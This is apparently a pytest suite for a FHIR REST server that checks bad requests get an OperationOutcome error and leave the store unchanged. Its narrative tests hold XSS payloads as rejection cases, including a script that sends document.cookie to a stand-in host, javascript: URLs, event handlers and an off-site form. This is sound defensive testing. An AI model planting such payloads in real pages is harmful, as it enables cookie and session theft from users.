"""Bad input: an OperationOutcome with the right status and issue code, and the store unchanged."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from service.main import create_app
from tests.api.helpers import outcome_codes, patient, store_snapshot
from tests.conftest import FhirClient, authorize

PATIENT = json.dumps(patient()).encode()


def _observation(**changes: Any) -> dict[str, Any]:
    body = {
        "resourceType": "Observation",
        "status": "final",
        "code": {"coding": [{"system": "http://example.org/codes", "code": "note"}]},
        "valueQuantity": {"value": 1.5, "unit": "cm"},
    }
    body.update(changes)
    return body


def _nested(depth: int) -> dict[str, Any]:
    """A Patient whose JSON nests ``depth`` levels deep (extensions inside extensions)."""
    inner: dict[str, Any] = {"url": "http://example.org/x", "valueString": "leaf"}
    levels = 2  # Patient -> extension array
    while levels + 2 < depth:
        inner = {"url": "http://example.org/x", "extension": [inner]}
        levels += 2
    return {**patient(), "extension": [inner]}


def _expect(response, status: int, code: str) -> None:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/fhir+json")
    assert code in outcome_codes(response), response.text
    body = response.json()
    assert "detail" not in body
    for issue in body["issue"]:
        assert issue["severity"] in ("error", "fatal")
        assert "Traceback" not in issue.get("diagnostics", "")


# (name, body bytes, status, issue code); sent as POST /fhir/Patient or /fhir/Observation.
BAD_BODIES = [
    ("malformed", b'{"resourceType": "Patient",', 400, "structure"),
    ("nan", b'{"resourceType": "Patient", "multipleBirthInteger": NaN}', 400, "structure"),
    (
        "infinity",
        b'{"resourceType": "Observation", "valueQuantity": {"value": Infinity}}',
        400,
        "structure",
    ),
    (
        "duplicate keys",
        b'{"resourceType": "Patient", "gender": "male", "gender": "female"}',
        400,
        "structure",
    ),
    (
        "nested duplicate",
        b'{"resourceType": "Patient", "name": [{"family": "a", "family": "b"}]}',
        400,
        "structure",
    ),
    ("wrong resourceType", json.dumps(_observation()).encode(), 400, "invalid"),
    ("no resourceType", b'{"gender": "male"}', 400, "invalid"),
    (
        "unknown element",
        json.dumps({**patient(), "favouriteColour": "blue"}).encode(),
        400,
        "structure",
    ),
    ("string for boolean", json.dumps({**patient(), "active": "true"}).encode(), 400, "structure"),
    (
        "link without its required other",
        json.dumps({**patient(), "link": [{"type": "seealso"}]}).encode(),
        400,
        "required",
    ),
    ("number for string", json.dumps({**patient(), "gender": 1}).encode(), 400, "structure"),
    (
        "object for array",
        json.dumps({**patient(), "name": {"family": "x"}}).encode(),
        400,
        "structure",
    ),
    ("bad date", json.dumps({**patient(), "birthDate": "2024-02-30"}).encode(), 400, "invalid"),
    (
        "bad date format",
        json.dumps({**patient(), "birthDate": "02/03/2024"}).encode(),
        400,
        "invalid",
    ),
    ("null", json.dumps({**patient(), "gender": None}).encode(), 400, "structure"),
    ("null in array", json.dumps({**patient(), "name": [None]}).encode(), 400, "structure"),
    ("empty object", json.dumps({**patient(), "maritalStatus": {}}).encode(), 400, "structure"),
    ("empty array", json.dumps({**patient(), "name": []}).encode(), 400, "structure"),
    ("empty string", json.dumps({**patient(), "gender": ""}).encode(), 400, "structure"),
    (
        "invalid gender code",
        json.dumps({**patient(), "gender": "mail"}).encode(),
        400,
        "code-invalid",
    ),
    (
        "contained bogus",
        json.dumps({**patient(), "contained": [{"resourceType": "Bogus"}]}).encode(),
        400,
        "structure",
    ),
    (
        "contained not object",
        json.dumps({**patient(), "contained": ["x"]}).encode(),
        400,
        "structure",
    ),
    ("array body", b"[]", 400, "structure"),
    ("string body", b'"x"', 400, "structure"),
    ("number body", b"42", 400, "structure"),
    ("null body", b"null", 400, "structure"),
    ("empty body", b"", 400, "structure"),
    ("whitespace body", b"  \n ", 400, "structure"),
    ("not utf-8", b'{"resourceType": "Patient", "gender": "\xff\xfe"}', 400, "structure"),
    ("deep json", json.dumps(_nested(80)).encode(), 400, "structure"),
    (
        "very deep json",
        b'{"resourceType": "Patient", "extension": ' + b"[" * 50000 + b"]" * 50000 + b"}",
        400,
        "structure",
    ),
]


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [pytest.param(b, s, c, id=n) for n, b, s, c in BAD_BODIES],
)
def test_bad_body_on_create(client, app, body, status, code):
    before = store_snapshot(app)
    _expect(client.post("/fhir/Patient", content=body), status, code)
    assert store_snapshot(app) == before


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        pytest.param(_observation(status="finished"), 400, "code-invalid", id="finished"),
        pytest.param(
            _observation(valueQuantity={"value": "1.5", "unit": "cm"}),
            400,
            "structure",
            id="decimal as string",
        ),
        pytest.param(_observation(effectiveDateTime="2024-13-01"), 400, "invalid", id="month 13"),
        pytest.param(
            _observation(subject={"reference": "Encounter/1"}),
            400,
            "structure",
            id="reference to a type the element does not allow",
        ),
        pytest.param(
            _observation(effectiveDateTime="2024-01-01T10:00:00"), 400, "invalid", id="no tz"
        ),
        pytest.param(_observation(valueString="x"), 400, "structure", id="two choice values"),
        pytest.param(
            {k: v for k, v in _observation().items() if k != "status"},
            400,
            "required",
            id="no status",
        ),
        pytest.param(
            {k: v for k, v in _observation().items() if k != "code"},
            400,
            "required",
            id="no code (a required CodeableConcept)",
        ),
        pytest.param(
            _observation(component=[{"code": {"text": "x"}}, {"valueString": "no code"}]),
            400,
            "required",
            id="component without its required code",
        ),
        pytest.param(
            _observation(code={"coding": [{"system": "http://loinc.org", "code": {}}]}),
            400,
            "structure",
            id="object for code",
        ),
        pytest.param(
            _observation(dataAbsentReason={"text": "asked, not answered"}),
            400,
            "invariant",
            id="obs-6 dataAbsentReason beside a value",
        ),
        pytest.param(
            _observation(extension=[{"url": "https://example.org/x"}]),
            400,
            "invariant",
            id="ext-1 extension without value or extensions",
        ),
        pytest.param(
            _observation(
                extension=[
                    {
                        "url": "https://example.org/x",
                        "valueString": "a",
                        "extension": [{"url": "y", "valueInteger": 1}],
                    }
                ]
            ),
            400,
            "invariant",
            id="ext-1 extension with value and extensions",
        ),
        pytest.param(
            _observation(implicitRules="https://example.org/some rules"),
            400,
            "value",
            id="uri with a space",
        ),
        pytest.param(
            _observation(code={"coding": [{"system": "http://loinc .org", "code": "x"}]}),
            400,
            "value",
            id="coding system uri with a space",
        ),
    ],
)
def test_bad_observation(client, app, body, status, code):
    before = store_snapshot(app)
    _expect(client.post("/fhir/Observation", json=body), status, code)
    assert store_snapshot(app) == before


def test_bad_body_on_update_leaves_resource_alone(client, app):
    pid = client.post("/fhir/Patient", json=patient()).json()["id"]
    before = store_snapshot(app)
    for body, code in [
        ({**patient(), "id": "other"}, "invalid"),  # id mismatch
        (patient(), "invalid"),  # no id at all
        ({**patient(), "id": pid, "active": "true"}, "structure"),
        ({**patient(), "id": pid, "gender": "finished"}, "code-invalid"),
        ({**_observation(), "id": pid}, "invalid"),  # wrong type for the endpoint
    ]:
        _expect(client.put(f"/fhir/Patient/{pid}", json=body), 400, code)
    _expect(client.put(f"/fhir/Patient/{pid}", content=b"[]"), 400, "structure")
    _expect(client.put("/fhir/Patient/bad$id", json={**patient(), "id": "bad$id"}), 400, "invalid")
    assert store_snapshot(app) == before
    assert client.get(f"/fhir/Patient/{pid}").json()["meta"]["versionId"] == "1"


def test_if_match(client, app):
    pid = client.post("/fhir/Patient", json=patient()).json()["id"]
    client.put(f"/fhir/Patient/{pid}", json={**patient("Two"), "id": pid})
    before = store_snapshot(app)
    body = {**patient("Three"), "id": pid}
    _expect(
        client.put(f"/fhir/Patient/{pid}", json=body, headers={"If-Match": 'W/"1"'}),
        412,
        "conflict",
    )
    _expect(
        client.put(f"/fhir/Patient/{pid}", json=body, headers={"If-Match": 'W/"3"'}),
        412,
        "conflict",
    )
    for malformed in ("1", "W/1", 'W/"x"', "*", '"1", "2"', ""):
        response = client.put(f"/fhir/Patient/{pid}", json=body, headers={"If-Match": malformed})
        _expect(response, 400, "invalid")
    # If-Match on a resource that does not exist
    _expect(
        client.put(
            "/fhir/Patient/nope", json={**body, "id": "nope"}, headers={"If-Match": 'W/"1"'}
        ),
        412,
        "conflict",
    )
    assert store_snapshot(app) == before
    ok = client.put(f"/fhir/Patient/{pid}", json=body, headers={"If-Match": 'W/"2"'})
    assert ok.status_code == 200
    strong = client.put(f"/fhir/Patient/{pid}", json=body, headers={"If-Match": '"3"'})
    assert strong.status_code == 200


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/xml", "application/fhir+xml", "multipart/form-data", None],
)
def test_content_type(client, app, content_type):
    before = store_snapshot(app)
    headers = {"content-type": content_type} if content_type else {}
    if content_type is None:
        client.headers.pop("content-type", None)
    _expect(client.post("/fhir/Patient", content=PATIENT, headers=headers), 415, "not-supported")
    _expect(
        client.post("/fhir", content=b'{"resourceType":"Bundle","type":"batch"}', headers=headers),
        415,
        "not-supported",
    )
    assert store_snapshot(app) == before
    for accepted in (
        "application/fhir+json; charset=utf-8",
        "application/json",
        "application/json+fhir",
    ):
        assert (
            client.post(
                "/fhir/Patient", content=PATIENT, headers={"content-type": accepted}
            ).status_code
            == 201
        )


@pytest.fixture
def limited_client(settings, r4_validator) -> Iterator[tuple[FhirClient, Any]]:
    """The service with a small body limit (2 KiB) and a shallow JSON depth limit (16)."""
    limited = settings.model_copy(update={"max_body_bytes": 2048, "max_json_depth": 16})
    app = create_app(limited)
    with FhirClient(app) as client:
        client.validator = r4_validator
        authorize(client)
        client.headers["content-type"] = "application/fhir+json"
        yield client, app


def test_body_size_limit(limited_client):
    client, app = limited_client
    before = store_snapshot(app)
    big = json.dumps(
        {**patient(), "extension": [{"url": "http://x.org/" + "a" * 3000, "valueString": "x"}]}
    )
    _expect(client.post("/fhir/Patient", content=big), 413, "too-costly")

    def chunks() -> Iterator[bytes]:  # no Content-Length: the limit holds while streaming
        for _ in range(10):
            yield b" " * 500
        yield PATIENT

    _expect(client.post("/fhir/Patient", content=chunks()), 413, "too-costly")
    _expect(
        client.post("/fhir/Patient", content=PATIENT, headers={"content-length": "999999999"}),
        413,
        "too-costly",
    )
    _expect(client.post("/fhir", content=big), 413, "too-costly")
    _expect(
        client.post(
            "/fhir/Patient/_search",
            content="family=" + "a" * 3000,
            headers={"content-type": "application/x-www-form-urlencoded"},
        ),
        413,
        "too-costly",
    )
    assert store_snapshot(app) == before
    assert client.post("/fhir/Patient", content=PATIENT).status_code == 201


def test_json_depth_limit(limited_client):
    client, app = limited_client
    before = store_snapshot(app)
    _expect(client.post("/fhir/Patient", json=_nested(18)), 400, "structure")
    assert store_snapshot(app) == before
    assert client.post("/fhir/Patient", json=_nested(14)).status_code == 201


def test_no_fastapi_detail_bodies(client, app):
    def probe(response, status: int, code: str) -> None:
        _expect(response, status, code)
        assert "detail" not in response.text

    probe(client.get("/nope"), 404, "not-found")
    probe(client.get("/fhir/Bogus"), 404, "not-found")
    probe(client.get("/fhir/Patient/x/_history/1/extra"), 404, "not-found")
    probe(client.delete("/fhir/metadata"), 405, "not-supported")
    probe(client.put("/fhir/Patient", content=PATIENT), 405, "not-supported")
    probe(client.patch("/fhir/Patient/1", content=PATIENT), 405, "not-supported")
    probe(client.get("/fhir/metadata", headers={"accept": "text/html"}), 406, "not-supported")

    # FastAPI's request validation (typed parameters) answers an OperationOutcome too.
    @app.get("/typed-probe")
    async def typed_probe(count: int) -> dict[str, int]:
        return {"count": count}

    probe(client.get("/typed-probe", params={"count": "many"}), 400, "invalid")
    probe(client.get("/typed-probe"), 400, "invalid")


def test_unexpected_error_is_an_outcome_without_internals(app, r4_validator):
    @app.get("/boom-probe")
    async def boom() -> None:
        raise RuntimeError("secret driver message")

    with FhirClient(app, raise_server_exceptions=False) as client:
        client.validator = r4_validator
        response = client.get("/boom-probe")
    _expect(response, 500, "exception")
    assert "secret" not in response.text


def test_bad_ids_and_versions(client):
    _expect(client.get("/fhir/Patient/" + "a" * 65), 400, "invalid")
    _expect(client.get("/fhir/Patient/a_b"), 400, "invalid")
    _expect(client.get("/fhir/Patient/unknown"), 404, "not-found")
    _expect(client.get("/fhir/Patient/unknown/_history/x"), 404, "not-found")
    _expect(client.delete("/fhir/Patient/a%20b"), 400, "invalid")


# ---------------------------------------------------------------------------- narratives

XHTML = '<div xmlns="http://www.w3.org/1999/xhtml">'
BAD_NARRATIVES = [
    (
        "script",
        f"{XHTML}<p>Pain 3</p><script>fetch('https://x.example/'+document.cookie)</script></div>",
    ),
    ("event handler", f'{XHTML}<p onmouseover="alert(1)">Pain 3</p></div>'),
    ("javascript url", f'{XHTML}<a href="javascript:alert(1)">Pain 3</a></div>'),
    ("obfuscated url", f'{XHTML}<a href=" JaVa&#x09;Script:alert(1)">Pain 3</a></div>'),
    (
        "data url link",
        f'{XHTML}<a href="data:text/html,&lt;script&gt;x()&lt;/script&gt;">3</a></div>',
    ),
    ("script in style", f'{XHTML}<p style="background:url(javascript:alert(1))">Pain 3</p></div>'),
    ("iframe", f'{XHTML}<iframe src="https://x.example/"></iframe>Pain 3</div>'),
    ("form", f'{XHTML}<form action="https://x.example/"><p>Pain 3</p></form></div>'),
    ("svg", f'{XHTML}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>Pain 3</div>'),
    ("xlink", f'{XHTML}<a xmlns:x="http://www.w3.org/1999/xlink" x:href="y">Pain 3</a></div>'),
    ("not xhtml namespace", "<div>Pain 3</div>"),
    ("not a div", '<p xmlns="http://www.w3.org/1999/xhtml">Pain 3</p>'),
    ("not well-formed", f"{XHTML}<p>Pain 3</div>"),
    ("doctype", f'<!DOCTYPE div [<!ENTITY e "Pain 3">]>{XHTML}&e;</div>'),
    ("processing instruction", f"{XHTML}<?php echo 1; ?>Pain 3</div>"),
    ("no content (txt-2)", f"{XHTML}\n  <p> </p></div>"),
]


def _observation_with(div: str) -> dict[str, Any]:
    return {
        "resourceType": "Observation",
        "text": {"status": "generated", "div": div},
        "status": "final",
        "code": {"coding": [{"system": "http://example.org/codes", "code": "note"}]},
        "valueString": "fine",
    }


@pytest.mark.parametrize(("name", "div"), BAD_NARRATIVES, ids=[n for n, _ in BAD_NARRATIVES])
def test_narratives_break_no_r4_rule(client, app, name, div):
    before = store_snapshot(app)
    response = client.post("/fhir/Observation", json=_observation_with(div))
    _expect(response, 400, "invariant")
    issues = response.json()["issue"]
    assert {tuple(i["expression"]) for i in issues} == {("Observation.text.div",)}, issues
    assert all(i["diagnostics"].startswith(("txt-1", "txt-2")) for i in issues), issues
    assert store_snapshot(app) == before


def test_narratives_are_checked_in_contained_and_bundled_resources(client, app):
    script = f"{XHTML}<script>alert(1)</script>Pain 3</div>"
    before = store_snapshot(app)
    plan = {
        "resourceType": "CarePlan",
        "status": "draft",
        "intent": "plan",
        "subject": {"reference": "Patient/p1"},
        "contained": [{**_observation_with(script), "id": "obs"}],
    }
    contained = client.post("/fhir/CarePlan", json=plan)
    _expect(contained, 400, "invariant")
    assert contained.json()["issue"][0]["expression"] == ["CarePlan.contained[0].text.div"]
    entry = {"request": {"method": "POST", "url": "Observation"}}
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [{**entry, "resource": _observation_with(script)}],
    }
    bundled = client.post("/fhir", json=bundle)
    _expect(bundled, 400, "invariant")
    assert bundled.json()["issue"][0]["expression"] == ["Bundle.entry[0].resource.text.div"]
    assert store_snapshot(app) == before


def test_narratives_with_formatting_images_and_html_entities_are_accepted(client):
    div = (
        f'{XHTML}<h3 class="x">Pain&nbsp;score</h3><p style="color: red" xml:lang="en">3 of 10'
        '<br/><a href="https://example.org/scale">scale</a> &amp; <b>note</b></p>'
        '<table><tbody><tr><td colspan="2">ok &#160;</td></tr></tbody></table>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart"/><!-- generated --></div>'
    )
    response = client.post("/fhir/Observation", json=_observation_with(div))
    assert response.status_code == 201, response.text
    assert client.get(response.headers["location"]).json()["text"]["div"] == div
